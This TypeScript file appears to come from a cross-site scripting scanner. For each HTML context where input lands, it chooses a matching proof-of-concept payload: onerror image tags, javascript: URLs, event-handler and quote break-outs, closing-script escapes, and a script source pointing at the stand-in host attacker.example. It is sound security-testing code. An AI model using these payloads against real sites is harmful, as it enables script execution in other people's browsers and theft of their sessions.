/** Payloads for pages. */
import type { Candidate } from '../results/candidate.ts';
import { htmlContext } from './html-context.ts';
import { type Fitting, quoteName, supports } from './payload.ts';

export const script = 'alert(document.domain)';

/** Attributes of elements whose value is an address: `<a href>` of React, `<html.script>.src`, Vue's `_href`. */
const addressAttribute = /[ ._](?:href|src|action|formaction|data)>?$/i;

export const markup: Fitting = (context, { sinkApi, trace }) => {
  const image = `<img src=x onerror=${script}>`;
  if (addressAttribute.test(sinkApi) && !context?.before.trim())
    return supports(
      sinkApi.includes('script') ? 'https://attacker.example/x.js' : `javascript:${script}`,
      'as the whole address',
    );
  const place = htmlContext(context?.before ?? '');
  switch (place.place) {
    case 'text':
      return supports(image, 'as text between tags');
    case 'tag':
      return supports(` autofocus onfocus=${script} `, 'inside a tag');
    case 'script':
      return supports(script, 'inside a script');
    case 'script-string':
      return supports(
        losesOnly(place.quote, trace) ? `</script>${image}` : breakOut(place.quote),
        `inside ${quoteName(place.quote)} of a script`,
      );
    case 'handler':
      return place.quote
        ? supports(breakOut(place.quote), `inside ${quoteName(place.quote)} of a script in an attribute`)
        : supports(script, 'inside a script in an attribute');
    case 'comment':
      return supports(`-->${image}`, 'inside a comment');
    case 'element':
      return supports(`</${place.name}>${image}`, `inside \`<${place.name}>\``);
    case 'attribute':
      if (place.startsAddress)
        return supports(`javascript:${script}`, 'as the beginning of an address in an attribute');
      return place.quote
        ? supports(`${place.quote}>${image}`, `inside an attribute in ${quoteName(place.quote)}`)
        : supports(`x onmouseover=${script} `, 'inside an attribute without quotes');
  }
};

/** The program takes quotes out and leaves what ends the script around the string. */
function losesOnly(quote: string, trace: Candidate['trace']): boolean {
  const replaced = trace.filter(({ kind }) => kind === 'sanitizer').map(({ code }) => code);
  return (
    replaced.some((code) => code.includes(quote)) &&
    !replaced.some((code) => /(['"])<\1|\[[^\]]*<|\/<|&lt;/.test(code))
  );
}

/** Ends a string and goes on with one, wherever the string stands in an expression. */
function breakOut(quote: string): string {
  return quote === '`' ? `\${${script}}` : `${quote}-${script}-${quote}`;
}
